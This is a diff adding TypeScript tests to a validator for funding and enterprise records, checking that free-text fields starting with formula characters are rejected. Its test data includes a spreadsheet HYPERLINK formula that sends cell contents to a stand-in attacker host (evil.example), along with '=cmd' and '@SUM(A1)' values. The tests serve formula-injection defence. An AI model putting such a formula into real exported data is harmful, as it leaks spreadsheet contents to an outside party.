@@ -51,3 +51,25 @@ describe("incubation, jobs, funding", () => {
     ]);
   });
 });
+
+describe("text a spreadsheet would run as a formula", () => {
+  const grant = {
+    funderId: "f",
+    beneficiaryEnterpriseId: "e",
+    amount: "1000",
+    year: 2024,
+    decisionDate: "2024-01-10",
+    instrument: "GRANT",
+    purpose: "Aide au démarrage",
+    ...provenance,
+  } as const;
+  it("is refused in every free-text field, with the field named", () => {
+    for (const start of ["=", "+", "-", "@", "\t", "\r", " =", "\t="]) {
+      const problems = fundingProblems({ ...grant, purpose: `${start}HYPERLINK("http://evil.example/?x="&A1,"Voir")`, paymentTerms: `${start}1+1`, source: `${start}cmd` });
+      expect(fields(problems), JSON.stringify(start)).toEqual(["purpose", "paymentTerms", "source"]);
+      expect(problems[0]?.message).toMatch(/formule/);
+    }
+    expect(fields(enterpriseProblems({ name: "@SUM(A1)", legalFamily: "ASSOCIATION", nafCode: "88.99B", communeCode: "79191", ...provenance }, inTerritory))).toEqual(["name"]);
+  });
+  it("is accepted further in the text", () => expect(fundingProblems({ ...grant, purpose: "Aide = 50 % du besoin, +10 % en 2025", paymentTerms: "unique" })).toEqual([]));
+});
